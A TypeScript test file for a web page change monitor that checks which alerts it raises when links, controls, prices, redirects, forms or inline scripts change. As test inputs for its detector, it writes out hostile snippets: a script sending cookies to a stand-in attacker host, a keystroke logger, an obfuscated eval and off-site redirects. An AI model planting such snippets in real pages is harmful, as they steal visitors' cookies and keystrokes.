import { describe, expect, test } from "vitest";
import { compare, learnTwin } from "./compare.ts";
import { emptyMemory } from "./noise-memory.ts";
import type { Snapshot } from "./snapshot.ts";
import { snapshotOf } from "./snapshot-of.ts";

const words = `<h1>House rules</h1><p>Guests keep the kitchen clean and lock the door when they leave.</p>
<p>The deposit of 200 € is paid back after the last check of the rooms.</p>`;

function page(main: string, { head = "", around = "" } = {}): Snapshot {
  const html = `<!doctype html><html><head><title>Rules</title>${head}</head><body><main>${words}${main}</main>${around}</body></html>`;
  return snapshotOf(html, "html", "https://www.house.test/rules");
}

/** Reasons as "severity: summary". */
function told(before: Snapshot, after: Snapshot, memory = emptyMemory()): string[] {
  return compare(before, after, memory).verdict.reasons.map(
    ({ severity, summary }) => `${severity}: ${summary}`,
  );
}

const nav = (html: string) => ({ around: `<nav>${html}</nav>` });

test("a script made of statements that were there is no new one, one more statement makes it new", () => {
  const [go, send] = ["if (a) { location.href = b }", "navigator.sendBeacon(log, c)"];
  const more = Array.from({ length: 9 }, (_, at) => `define('part${at}', f${"x".repeat(at)})`).join(";");
  const script = (code: string) => page("", { head: `<script>${code}</script>` });
  expect(told(script(`${go};${more};${send}`), script(`${send};${go}`))).toEqual([]);
  expect(told(script(`${go};${more}`), script(`${go};${send}`))).toEqual([
    "important: New inline script: sends data out",
  ]);
});

describe("links", () => {
  const uuid = (digit: string) => `/files/3f2b1c9e-7a64-4d0f-9b1a-5c8e2d7f601${digit}`;
  const list = (prefix: string, names = "abcde") =>
    [...names].map((name) => `<a href="${prefix}/${name}">To ${name}</a>`).join(" ");
  const cases: [string, Snapshot, Snapshot, string[]][] = [
    [
      "a target that another link has",
      page('<a href="/a">One</a> <a href="/b">Two</a>'),
      page('<a href="/b">One</a> <a href="/b">Two</a>'),
      ["notice: Link “One” leads elsewhere"],
    ],
    [
      "two targets swapped",
      page('<a href="/a">One</a> <a href="/b">Two</a>'),
      page('<a href="/b">One</a> <a href="/a">Two</a>'),
      ["notice: 2 links lead elsewhere"],
    ],
    [
      "words that became a link",
      page("<p>Read the terms before you pay.</p>"),
      page('<p>Read the <a href="/terms">terms</a> before you pay.</p>'),
      ["notice: “terms” is now a link"],
    ],
    [
      "a link that became words",
      page('<p>Read the <a href="/terms">terms</a> before you pay.</p>'),
      page("<p>Read the terms before you pay.</p>"),
      ["notice: “terms” is no longer a link"],
    ],
    [
      "another label on the same words",
      page('<p>Read <a href="/terms">the terms</a> of use.</p>'),
      page('<p>Read the <a href="/terms">terms of use</a>.</p>'),
      ["notice: Link is now “terms of use”"],
    ],
    [
      "from nowhere to a page",
      page('<a href="#">Buy</a>'),
      page('<a href="/buy">Buy</a>'),
      ["notice: Link “Buy” leads elsewhere"],
    ],
    [
      "no longer encrypted",
      page('<a href="https://pay.house.test/in">Pay</a>'),
      page('<a href="http://pay.house.test/in">Pay</a>'),
      ["notice: Link “Pay” is no longer encrypted"],
    ],
    [
      "another document behind a made-up name",
      page(`<a href="${uuid("1")}.pdf">Report</a> <a href="${uuid("2")}">Annex</a>`),
      page(`<a href="${uuid("3")}.pdf">Report</a> <a href="${uuid("4")}">Annex</a>`),
      ["notice: 2 links lead elsewhere"],
    ],
    [
      "a query that names another thing",
      page('<a href="/show?id=17">Plan</a>'),
      page('<a href="/show?id=18">Plan</a>'),
      ["notice: Link “Plan” leads elsewhere"],
    ],
    [
      "the same host in a menu explains",
      page("", nav('<a href="/a">One</a>')),
      page("", nav('<a href="/b">One</a>')),
      ["info: Link “One” leads elsewhere"],
    ],
    [
      "another host in a menu is told",
      page('<a href="https://a.partner.example/">P</a>', nav('<a href="/a">One</a>')),
      page('<a href="https://a.partner.example/">P</a>', nav('<a href="https://b.partner.example/">One</a>')),
      ["notice: Link “One” leads to b.partner.example"],
    ],
    [
      "another language in all links is one reason",
      page("", nav(list("/en"))),
      page("", nav(list("/de"))),
      ["info: 5 links lead to another language or country: /en → /de"],
    ],
    [
      "another country in the content and another in the menu are one reason each",
      page(list("/fr-fr"), nav(list("/fr", "vwxyz"))),
      page(list("/fr-ch"), nav(list("/fr-fr", "vwxyz"))),
      [
        "info: 5 links lead to another language or country: /fr-fr → /fr-ch",
        "info: 5 links lead to another language or country: /fr → /fr-fr",
      ],
    ],
    [
      "a token in an address",
      page('<a href="/a?x_token=eyJ0eXBlIjowLCJjcmVhdGlvbl90aW1lIjoxNzY2%3D%3D">Sign up</a>'),
      page('<a href="/a?x_token=eyJ0eXBlIjowLCJjcmVhdGlvbl90aW1lIjoxOTg3%3D%3D">Sign up</a>'),
      [],
    ],
  ];
  test.each(cases)("%s", (_name, before, after, reasons) => {
    expect(told(before, after)).toEqual(reasons);
  });

  test("a target that two captures of one moment fill differently is noise, listed", () => {
    const shown = (to: string) => page(`<a href="/offer/${to}">Offer of the hour</a>`);
    const memory = learnTwin(shown("lamp"), shown("desk"), emptyMemory());
    const { changed, ignored } = compare(shown("lamp"), shown("sofa"), memory).verdict;
    expect(changed).toBe(false);
    expect(ignored).toContainEqual(expect.objectContaining({ why: "learned", after: "/offer/sofa" }));
  });

  test("a target that flips is told each time", () => {
    let memory = emptyMemory();
    const shown = (to: string) => page(`<a href="/${to}">Apply</a>`);
    const steps = ["a", "b", "a", "b", "a", "b", "a"].map(shown);
    for (let at = 1; at < steps.length; at++) {
      const result = compare(steps[at - 1] as Snapshot, steps[at] as Snapshot, memory);
      memory = result.memory;
      expect(result.verdict).toMatchObject({ changed: true, folded: false });
    }
  });
});

describe("what is told without words", () => {
  const data = (price: string, availability: string) =>
    `<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"Lamp","offers":{"@type":"Offer","price":${price},"availability":"https://schema.org/${availability}"}}</script>`;
  const cases: [string, Snapshot, Snapshot, string[]][] = [
    [
      "a control that may be used",
      page("<button disabled>Buy</button>"),
      page("<button>Buy</button>"),
      ["notice: “Buy” is no longer disabled"],
    ],
    [
      "a control for screen readers",
      page('<a role="button" aria-disabled="false">Buy</a>'),
      page('<a role="button" aria-disabled="true">Buy</a>'),
      ["notice: “Buy” is now disabled"],
    ],
    [
      "the chosen option",
      page("<select><option selected>Red</option><option>Blue</option></select>"),
      page("<select><option>Red</option><option selected>Blue</option></select>"),
      ["notice: 2 controls changed"],
    ],
    [
      "a box that is ticked",
      page('<input type="checkbox" name="news">'),
      page('<input type="checkbox" name="news" checked>'),
      ["notice: “news” is now checked"],
    ],
    [
      "a value in a field",
      page('<input name="fee" value="10 €">'),
      page('<input name="fee" value="12 €">'),
      ["notice: Field “fee” now holds “12 €”"],
    ],
    [
      "another alternative text",
      page('<img alt="In stock" src="/a.png">'),
      page('<img alt="Sold out" src="/a.png">'),
      ["notice: Screen readers now say “Sold out”"],
    ],
    [
      "another label",
      page('<i aria-label="Open"></i>'),
      page('<i aria-label="Closed"></i>'),
      ["notice: Screen readers now say “Closed”"],
    ],
    [
      "text in a drawing",
      page("<svg><text>Open today</text></svg>"),
      page("<svg><text>Closed today</text></svg>"),
      ["notice: “Open today” → “Closed today”"],
    ],
    [
      "price and availability for machines",
      page("", { head: data("9.00", "InStock") }),
      page("", { head: data('"9"', "OutOfStock") }),
      [
        "notice: availability of Product Lamp is now https://schema.org/OutOfStock, was https://schema.org/InStock",
      ],
    ],
    [
      "a price in the markup",
      page('<meta itemprop="price" content="10.00">'),
      page('<meta itemprop="price" content="12.00">'),
      ["notice: price is now 12.00, was 10.00"],
    ],
    [
      "search engines sent away",
      page("", { head: '<meta name="robots" content="index, follow">' }),
      page("", { head: '<meta name="robots" content="noindex">' }),
      ["notice: Meta robots is now “noindex”"],
    ],
    [
      "a canonical address elsewhere",
      page("", { head: '<link rel="canonical" href="https://www.house.test/rules">' }),
      page("", { head: '<link rel="canonical" href="https://clone.example/rules">' }),
      ["important: Canonical address is now https://clone.example/rules"],
    ],
    [
      "a way chosen among others",
      page('<select><option value="/a" selected>Here</option><option value="/b">There</option></select>'),
      page('<select><option value="/a">Here</option><option value="/b" selected>There</option></select>'),
      [],
    ],
    [
      "a picture that takes turns by its name",
      page('<a id="adRotator2" href="/air"><img src="/air.png" alt="Air today"></a>'),
      page('<a id="adRotator2" href="/water"><img src="/water.png" alt="Water today"></a>'),
      ["info: 1 link went", "info: 1 link came", "info: Screen readers now say “Water today”"],
    ],
    [
      "a control in a menu explains",
      page("", nav("<button disabled>Buy</button>")),
      page("", nav("<button>Buy</button>")),
      ["info: “Buy” is no longer disabled"],
    ],
  ];
  test.each(cases)("%s", (_name, before, after, reasons) => {
    expect(told(before, after)).toEqual(reasons);
  });
});

test("a date for machines that is that of the answer is the page's clock", () => {
  const at = (day: number, modified: string): Snapshot => ({
    ...page("", {
      head: `<script type="application/ld+json">{"@type":"WebPage","dateModified":"${modified}"}</script>`,
    }),
    headers: [["date", new Date(Date.UTC(2026, 2, day, 9)).toUTCString()]],
  });
  expect(told(at(3, "2026-03-03T08:59:00Z"), at(5, "2026-03-05T08:58:00Z"))).toEqual([]);
  expect(told(at(3, "2026-01-20T08:00:00Z"), at(5, "2026-03-05T08:00:00Z"))).toEqual([
    "notice: dateModified of WebPage is now 2026-03-05T08:00:00Z, was 2026-01-20T08:00:00Z",
  ]);
});

describe("severity", () => {
  const status = (code: number) => ({ ...page(""), status: code });
  const form = (action: string, fields: string) =>
    page(`<form action="${action}" method="post">${fields}</form>`);
  const cases: [string, Snapshot, Snapshot, string][] = [
    ["an endpoint opens", status(403), status(200), "critical: Status 403 → 200"],
    ["an endpoint closes", status(200), status(404), "important: Status 200 → 404"],
    ["a server mends itself", status(503), status(200), "important: Status 503 → 200"],
    [
      "a password goes to a host that other forms use",
      form("https://lists.partner.example/", '<input name="mail">'),
      form("https://lists.partner.example/", '<input type="password" name="pw">'),
      "critical: New form asks for a password and sends it to lists.partner.example",
    ],
    [
      "a form asks for more",
      form("/order", '<input name="mail">'),
      form("/order", '<input name="mail"><input name="card">'),
      "notice: Form now asks for mail, card",
    ],
    [
      "a form sends elsewhere on the host",
      form("/order", '<input name="mail">'),
      form("/take", '<input name="mail">'),
      "notice: Form sends elsewhere",
    ],
    [
      "another's account in an old sentence",
      page("<p>Pay to DE89 3704 0044 0532 0130 00 before Monday.</p>"),
      page("<p>Pay to GB29 NWBK 6016 1331 9268 19 before Monday.</p>"),
      "important: Contact is now GB29 NWBK 6016 1331 9268 19",
    ],
    [
      "the answer leads on",
      { ...page(""), headers: [["server", "x"]] },
      {
        ...page(""),
        headers: [
          ["server", "x"],
          ["refresh", "0; url=https://else.example/"],
        ],
      },
      "critical: Answer now leads on: 0; url=https://else.example/",
    ],
  ];
  test.each(cases)("%s", (_name, before, after, reason) => {
    expect(told(before, after)).toContain(reason);
  });
});

describe("markup of real pages", () => {
  test("a head that nobody closed does not silence the page", () => {
    const open = (text: string) =>
      snapshotOf(
        `<html><head><title>T</title><meta charset=utf-8><div><p>${text}</p></div>`,
        "html",
        "https://www.house.test/",
      );
    expect(told(open("Guests lock the door."), open("Guests open the door."))).toEqual([
      "notice: “Guests” lock → open",
    ]);
  });

  test("a page whose words cannot be read says so", () => {
    const unread = snapshotOf(
      "<template><p>Guests lock the door.</p></template>",
      "html",
      "https://www.house.test/",
    );
    const summary = "The page holds text, but none of it could be read";
    expect(told(page(""), unread)).toContain(`important: ${summary}`);
    expect(told(unread, { ...unread, html: `${unread.html} ` })).toEqual([`info: ${summary}`]);
  });

  test("comments and names of vocabularies in scripts are no hosts", () => {
    const script = (code: string) => page("", { head: `<script>${code}</script>` });
    const code = `var a=1; //window.open\n el.createElementNS("http://www.w3.org/2000/svg","g"); go({"@context":"https://schema.org"})`;
    expect(told(script("var a=1;"), script(code))).toEqual([]);
    expect(told(script("var a=1;"), script('go("//cdn.else.example/x")'))).toEqual([
      "critical: Inline script names a new host cdn.else.example",
    ]);
  });

  test("a refresh that leads away is told beside one that only reloads the page, and whatever it is named", () => {
    const reload = '<meta http-equiv="refresh" content="1200">';
    const away = '<meta name="viewport" http-equiv="Refresh" content="0;url=https://else.example/">';
    expect(told(page("", { head: reload }), page("", { head: reload + away }))).toEqual([
      "critical: Page now leads to else.example",
    ]);
    expect(told(page("", { head: reload + away }), page("", { head: away + reload }))).toEqual([]);
    expect(told(page(""), page("", { head: reload }))).toEqual([]);
  });

  test("a refresh in a noscript matters when it leads to someone else", () => {
    const refresh = (url: string) =>
      page("", { head: `<noscript><meta http-equiv="refresh" content="0;url=${url}"></noscript>` });
    expect(told(page(""), refresh("/no-scripts"))).toEqual([
      "info: Page now leads to /no-scripts where scripts are off",
    ]);
    expect(told(page(""), refresh("https://else.example/"))).toEqual([
      "critical: Page now leads to else.example",
    ]);
  });

  test("code that listens and has no way out is a framework's", () => {
    const script = (code: string) => page("", { head: `<script>var a=1;</script><script>${code}</script>` });
    expect(
      told(script(""), script('box.addEventListener("keydown",function(e){box.open=e.key!="Escape"})')),
    ).toEqual([]);
    expect(
      told(script(""), script('box.addEventListener("keydown",function(e){img.src="/p?"+e.key})')),
    ).toEqual(["important: New inline script: listens to forms or keys"]);
  });
});

describe("a new inline script", () => {
  const script = (code: string) => page("", { head: `<script>${code}</script>` });
  const load = (host: string) =>
    `(function(d){var s=d.createElement("script");s.src="https://${host}/w.js";d.head.appendChild(s)})(document)`;

  test("that only calls a service whose own script may come unasked is passed over like that script", () => {
    expect(told(page(""), script(load("survey.survicate.com")))).toEqual([]);
  });

  test.for([
    [
      "calls someone else as well",
      `${load("survey.survicate.com")};fetch("https://evil.test/?"+document.cookie)`,
    ],
    [
      "reads what is typed",
      `${load("survey.survicate.com")};addEventListener("keydown",e=>fetch("/k?"+e.key))`,
    ],
    ["hides what it does", `${load("survey.survicate.com")};eval(atob("YWxlcnQoMSk="))`],
    ["names nobody", 'var s=document.createElement("script");s.src=where()'],
  ] satisfies [string, string][])("is told when it %s", ([, code]) => {
    expect(told(page(""), script(code))).toEqual([expect.stringMatching(/^(?:important|critical): /)]);
  });
});

describe("what a script does", () => {
  const script = (code: string) => page("", { head: `<script>var a=1;</script><script>${code}</script>` });
  const says = (code: string, before = "") => told(script(before), script(code));
  const host = "critical: Inline script names a new host credits.example";
  const sends = "important: New inline script: sends data out";

  test("whom its comments thank is no host that it calls", () => {
    const credits = "/* @license http://credits.example/LICENSE.txt */ start(1)";
    expect(says(credits)).toEqual([]);
    expect(says(`${credits}; go("http://credits.example/x")`)).toEqual([host]);
    expect(says('var r=/"/, s="/*"; go("//credits.example/x"); /* " */')).toEqual([host]);
    expect(says('// broken\n if ( go("//credits.example/x")')).toEqual([host]);
  });

  test("asking for the global object runs no text", () => {
    expect(says('var g=new Function("return this")();')).toEqual([]);
    expect(says('var g=new Function("return this;"+x)();')).toEqual([
      "important: New inline script: runs text as code",
    ]);
  });

  test("a bundle's loader under other short names is the one that was there", () => {
    const loader = (...names: string[]) => {
      const [a, b, c] = names;
      const parts = "alpha beta gamma delta epsilon zeta theta iota kappa lambda sigma omega tau upsilon"
        .split(" ")
        .map((part, at) => `${a}.${part}=${names[at % 3]}${at};`);
      return `var ${a}={},${b},${c};${parts.join("")}${b}=document.createElement("script");${b}.charset="utf-8";${b}.timeout=120;${b}.onload=${b}.onerror=${c};document.head.appendChild(${b})`;
    };
    const short = loader("e", "r", "o");
    const renamed = `${loader("t9", "n4", "q7").replace("var t9={}", "var t9={},x1,x2,x3")};${Array.from({ length: 90 }, (_, at) => `t9.m${at}=n4${at}`).join(";")}`;
    expect(says(renamed, short)).toEqual([]);
    expect(says(`${renamed};fetch(where)`, short)).toEqual([sends]);
  });

  test("a site that measures itself or loads its own scripts stays at home", () => {
    const measure = 'var u=new URL("/t/paint",location.origin);navigator.sendBeacon(u)';
    const load = (from: string) =>
      `var s=document.createElement("script");s.src=${from};document.head.appendChild(s)`;
    expect(says(measure)).toEqual([]);
    expect(says(`${measure};${load('"/js/more.js"')}`)).toEqual([]);
    expect(says(load('"/js/"+where'))).toEqual([]);
    for (const from of ['"//"+where', '"/"+"/where.example/x"', '"/js/x.js?"+where+"a.test"'])
      expect(says(load(from))).toEqual(["important: New inline script: loads a script"]);
    expect(says('var u=["//a","b.exam"].join("")+"/t/paint";navigator.sendBeacon(u)')).toEqual([sends]);
    expect(says(`${measure};var v=field.value`)).toEqual([sends]);
    expect(says(`${measure};var v=new FormData(form)`)).toEqual([sends]);
    expect(says(`${measure};var v=document.cookie`)).toEqual([sends]);
  });

  test("who listens and reads nothing that is typed is harmless", () => {
    const listens = "important: New inline script: listens to forms or keys";
    const on = (does: string) => `box.addEventListener("keydown",function(e){${does}});img.src=next`;
    expect(says(on("count++"))).toEqual([]);
    expect(says(on("if(13===e.keyCode)box.click()"))).toEqual([]);
    expect(says(on('if(e.key==="Enter")box.textContent=""'))).toEqual([]);
    expect(says(on("all+=e.key"))).toEqual([listens]);
    expect(says(on("if(13===e.keyCode)all+=box.value"))).toEqual([listens]);
  });

  test("a style sheet of the same store in another region is no stranger's", () => {
    const style = (store: string) =>
      page("", { head: `<link rel="stylesheet" href="https://${store}.s3.amazonaws.com/a.css">` });
    expect(told(style("files-us-east-1"), style("files-us-west-2"))).toEqual([
      "info: New style sheet host files-us-west-2.s3.amazonaws.com",
    ]);
    expect(told(style("files-us-east-1"), style("fi1es-us-west-2"))).toEqual([
      "important: New style sheet host fi1es-us-west-2.s3.amazonaws.com",
    ]);
  });
});

describe("where links lead", () => {
  const link = (href: string) => page(`<p>See <a href="${href}">the small print</a> first.</p>`);

  test("a place in the page that a machine numbered is the same place, one that is named is not", () => {
    expect(told(link("#part--818319741"), link("#part-1642061665"))).toEqual([]);
    expect(told(link("#part-deposit"), link("#part-pets"))).toEqual([
      expect.stringContaining("leads elsewhere"),
    ]);
    expect(told(link("#v20240512"), link("#v20260101"))).toEqual([
      expect.stringContaining("leads elsewhere"),
    ]);
  });

  test("a campaign's link leads where the campaign does; to another host it is told", () => {
    const offer = (where: string) => link(`https://shop.house.test/${where}?utm_source=footer`);
    expect(told(offer("kettles"), offer("lamps"))).toEqual([expect.stringMatching(/^info: /)]);
    expect(told(offer("kettles"), link("https://evil.test/lamps?utm_source=footer"))).toEqual([
      "important: Link “the small print” leads to evil.test",
    ]);
  });

  test("an address is told of when it is hidden from robots or open to them, not when its key differs", () => {
    const veiled = (key: number) =>
      link(
        `/cdn-cgi/l/email-protection#${[key, ...[..."a@b.test"].map((char) => char.charCodeAt(0) ^ key)].map((byte) => byte.toString(16).padStart(2, "0")).join("")}`,
      );
    expect(told(veiled(17), veiled(99))).toEqual([]);
    expect(told(veiled(17), link("mailto:a@b.test"))).toEqual([
      "notice: Address a@b.test is now open to robots",
    ]);
    expect(told(link("mailto:a@b.test"), veiled(17))).toEqual([
      "notice: Address a@b.test is now hidden from robots",
    ]);
  });

  test("partners that a consent dialogue names when it comes are no alarm", () => {
    const dialogue = `<div class="cookie-consent"><p>We use cookies with <a href="https://partner.test/">our partner</a>.</p><button>Accept all</button><button>Reject all</button></div>`;
    const { verdict } = compare(page(""), page("", { around: dialogue }), emptyMemory());
    expect(verdict).toMatchObject({ folded: true, severity: "notice" });
    const bare = page("", { around: '<p>With <a href="https://partner.test/">our partner</a>.</p>' });
    expect(compare(page(""), bare, emptyMemory()).verdict).toMatchObject({
      folded: false,
      severity: "important",
    });
    const standing = dialogue.replace(/ with <a.*?<\/a>/, "");
    const stood = compare(page("", { around: standing }), page("", { around: dialogue }), emptyMemory());
    expect(stood.verdict).toMatchObject({ folded: false, severity: "important" });
  });
});
